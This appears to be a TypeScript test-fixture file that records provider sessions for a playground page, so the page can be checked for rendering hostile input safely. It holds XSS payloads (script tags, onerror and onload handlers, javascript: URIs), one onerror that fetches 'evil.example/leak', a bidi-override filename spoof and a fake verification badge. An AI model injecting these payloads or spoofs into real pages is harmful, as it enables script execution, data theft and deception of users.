// Transcripts made in Node, the way the playground records them (one envelope per line, as sent and received),
// for the page to import: a hostile provider's signed answer, one whose names carry bidi controls and invisible
// characters, one with a large frame, and a 1,000-frame signed answer.
import {
  type CandidateFrame,
  connect,
  defineProvider,
  encodeLine,
  inPageTransport,
  type Provider,
  type QueryInput,
  type RecordedEnvelope,
  recordingTransport,
  signerFromSeed,
} from "../lib.ts";

/** The transcript of one connection to `provider` that asks `queries` in turn. */
export async function recordSession(provider: Provider, queries: readonly QueryInput[]): Promise<string> {
  const log: RecordedEnvelope[] = [];
  const connection = await connect(recordingTransport(inPageTransport(provider), (entry) => log.push(entry)));
  for (const query of queries) await connection.query(query);
  await connection.close();
  return log.map((entry) => ("envelope" in entry ? encodeLine(entry.envelope) : "")).join("");
}

/** Markup, script and a fake badge in every text a frame carries: the page must show it all as text. */
export const HOSTILE = {
  title: '✔ Verified <img src=x onerror="alert(1)">',
  content: "<script>alert('content')</script><img src=x onerror=\"fetch('https://evil.example/leak')\"> <b>bold?</b>",
  citation: "<a href=\"javascript:alert('cite')\">cite</a>",
  relationName: "<img src=x onerror=alert('relation')>",
  relationTarget: "javascript:alert(document.domain)",
  uri: "javascript:alert('uri')",
} as const;

/** A signed provider whose one frame is hostile in every text member. */
export async function hostileProvider(): Promise<Provider> {
  const signer = await signerFromSeed("48".repeat(32), { keyId: "hostile-1", attesterId: "hostile" });
  return defineProvider({
    info: { name: "hostile", version: "6.6.6", data_flow: { reads: true } },
    capabilities: { query: { kinds: ["doc"] }, correlation: true, graph: true },
    signer,
    query: () => [
      {
        id: "hostile-frame",
        kind: "doc",
        title: HOSTILE.title,
        content: HOSTILE.content,
        uri: HOSTILE.uri,
        score: 0.9,
        citation_label: HOSTILE.citation,
        relations: [{ rel: "links-to", target_uri: HOSTILE.relationTarget, display_name: HOSTILE.relationName }],
        provenance: [{ type: "derivation", method: "<svg onload=alert('provenance')>", by: "hostile" }],
      },
    ],
  });
}

/** A signed provider that answers any query with `count` frames of about 300 bytes each. */
export async function manyFramesProvider(count: number): Promise<Provider> {
  const signer = await signerFromSeed("5a".repeat(32), { keyId: "many-1", attesterId: "many" });
  const frames: CandidateFrame[] = Array.from({ length: count }, (_, i) => ({
    id: `doc-${String(i).padStart(4, "0")}`,
    kind: "doc",
    title: `Section ${i}`,
    content: `Section ${i}: ${"retry policy and backoff with jitter, ".repeat(8)}end.\n`,
    uri: `file:///docs/section-${i}.md`,
    score: 1 - i / (2 * count),
    citation_label: `docs/section-${i}.md L1-4`,
    provenance: [{ type: "derivation", method: "generated", by: "many" }],
  }));
  return defineProvider({
    info: { name: "many", version: "1.0.0", data_flow: { reads: true } },
    capabilities: { query: { kinds: ["doc"] }, correlation: true },
    signer,
    query: () => frames,
  });
}

/**
 * Bidirectional controls and invisible characters in every string a provider names (issue 22.1): its name,
 * version and key id, each frame's id, kind, title and citation label. "invoice‮fdp.exe" reads "…exe.pdf"
 * when the override reaches the page as itself.
 */
export const BIDI = {
  name: "docs\u202E",
  version: "1.0\u2069",
  keyId: "bidi\u200B-1",
  attester: "\uFEFFbidi",
  title: "invoice\u202Efdp.exe",
  kind: "doc\u2066x",
  citation: "\u202Edocs/a.md",
  /** 132 ASCII bytes: the frame costs ceil(132 / 4) = 33 budget tokens. */
  content: `${"lorem ipsum ".repeat(11)}`,
  /** A title that imitates the page's badge (issue 22.2). */
  imitation: "Verified ✔ (pinned key)",
} as const;

/** Every hidden character `BIDI` uses, as the page must never show it raw. */
export const HIDDEN_CHARACTERS = ["\u202E", "\u2066", "\u2069", "\u200B", "\uFEFF"] as const;

/** A signed provider whose every name carries a bidi control or an invisible character; two frames, score 0.8. */
export async function bidiProvider(): Promise<Provider> {
  const signer = await signerFromSeed("2e".repeat(32), { keyId: BIDI.keyId, attesterId: BIDI.attester });
  return defineProvider({
    info: { name: BIDI.name, version: BIDI.version, data_flow: { reads: true } },
    capabilities: { query: { kinds: ["doc", BIDI.kind] }, correlation: true },
    signer,
    query: () => [
      {
        id: "bidi-1",
        kind: BIDI.kind,
        title: BIDI.title,
        content: BIDI.content,
        score: 0.8,
        citation_label: BIDI.citation,
      },
      { id: "bidi-2", kind: "doc", title: BIDI.imitation, content: "a frame whose title imitates a badge", score: 0.5 },
    ],
  });
}

/** A signed provider that answers with one frame of `bytes` ASCII bytes of content, in lines of 80. */
export async function largeFrameProvider(bytes: number): Promise<Provider> {
  const signer = await signerFromSeed("6c".repeat(32), { keyId: "large-1", attesterId: "large" });
  const line = `${"x".repeat(79)}\n`;
  const content = line.repeat(Math.ceil(bytes / line.length)).slice(0, bytes);
  return defineProvider({
    info: { name: "large", version: "1.0.0", data_flow: { reads: true } },
    capabilities: { query: { kinds: ["doc"] }, correlation: true },
    signer,
    query: () => [
      { id: "large-1", kind: "doc", title: "A large frame", content, score: 0.9 },
      { id: "small-1", kind: "doc", title: "A small frame after it", content: "small", score: 0.5 },
    ],
  });
}
